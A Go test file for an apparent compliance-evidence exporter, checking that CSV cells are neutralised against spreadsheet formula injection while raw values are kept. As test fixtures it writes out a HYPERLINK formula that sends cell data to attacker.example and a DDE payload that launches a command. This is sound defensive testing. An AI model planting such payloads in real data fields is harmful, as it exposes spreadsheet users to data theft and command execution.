package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/tickmark-dev/tickmark/collectors"
	"github.com/tickmark-dev/tickmark/internal/controls/controlstest"
	"github.com/tickmark-dev/tickmark/internal/export"
	"github.com/tickmark-dev/tickmark/internal/readmodel"
)

// A collector (or the system it reads) controls subjects and item fields;
// compliance staff open index.csv and population CSVs in a spreadsheet.
const formula = `=HYPERLINK("http://attacker.example/?d="&A1,"open")`

func hostileSource(t *testing.T) *readmodel.Ledger {
	t.Helper()
	p := controlstest.Plan{Dir: t.TempDir(), Agent: "prod-1", From: date("2026-03-01"), To: date("2026-03-02"), Push: true,
		Collectors: []controlstest.Collector{
			{Name: "jira", Type: "jira", Hour: 5, Controls: map[string][]string{"test.change_tickets": {"CC8.1"}},
				Emit: func(day time.Time) []collectors.Artifact {
					return []collectors.Artifact{{Type: "test.change_tickets", Subject: formula, ContentType: "application/json",
						Body: []byte(`{"collector":"jira","query":{"name":"changes"},"page":1,"tickets":[` +
							`{"key":"CHG-1","summary":"@SUM(1+1)*cmd|' /C calc'!A0","type":"+Change","status":"-1+1","created":"2026-03-01T10:00:00Z"},` +
							`{"key":"CHG-2","summary":"\t=1","type":"\r=1","status":"Done","created":"2026-03-01T11:00:00Z"}]}`)}}
				}},
		}}
	b, err := controlstest.Build(context.Background(), p)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Close)
	return &readmodel.Ledger{L: b.Ledger, Bucket: b.Bucket}
}

// noFormula fails for any cell a spreadsheet would evaluate.
func noFormula(t *testing.T, what string, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("%s row %d column %d is a formula: %q", what, i+1, j+1, c)
			}
		}
	}
}

func TestCSVCellsAreNeutralisedRawValuesKept(t *testing.T) {
	src := hostileSource(t)
	pkg := exportZip(t, src, export.Options{From: date("2026-03-01"), To: date("2026-03-02")})
	zr, err := zip.NewReader(bytes.NewReader(pkg), int64(len(pkg)))
	if err != nil {
		t.Fatal(err)
	}
	var index [][]string
	var record []byte
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		switch {
		case strings.HasSuffix(f.Name, "/index.csv"):
			if index, err = csv.NewReader(bytes.NewReader(b)).ReadAll(); err != nil {
				t.Fatal(err)
			}
		case strings.Contains(f.Name, "/records/"):
			record = b
		}
	}
	if len(index) != 2 || index[1][2] != "'"+formula {
		t.Fatalf("index.csv subject = %q, want the formula prefixed with a quote", index)
	}
	noFormula(t, "index.csv", index)
	if !bytes.Contains(record, []byte(`"subject":"=HYPERLINK(`)) {
		t.Errorf("the record no longer holds the raw subject: %s", record)
	}
	if rep := verify(t, pkg); !rep.OK {
		t.Errorf("package with a neutralised index does not verify: %v", rep.Problems)
	}

	pop, err := export.BuildPopulation(context.Background(), src, "test.change_tickets", time.Time{}, time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := pop.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	noFormula(t, "population CSV", rows)
	// Whatever columns the type's population declares: the ticket's status
	// and type cells are written neutralised, its row keeps them raw (and
	// so does --json).
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("population CSV has no %s column: %v", name, rows[0])
		return -1
	}
	raw := map[string]bool{}
	for _, f := range pop.Rows[0].Fields {
		raw[f] = true
	}
	for name, want := range map[string]string{"status": "-1+1", "type": "+Change", "subject": formula} {
		if got := rows[1][col(name)]; got != "'"+want {
			t.Errorf("%s cell = %q, want %q", name, got, "'"+want)
		}
		if name != "subject" && !raw[want] {
			t.Errorf("population row lost the raw %s %q: %+v", name, want, pop.Rows[0])
		}
	}
	if pop.Rows[0].Subject != formula {
		t.Errorf("population row lost its raw subject: %q", pop.Rows[0].Subject)
	}
}
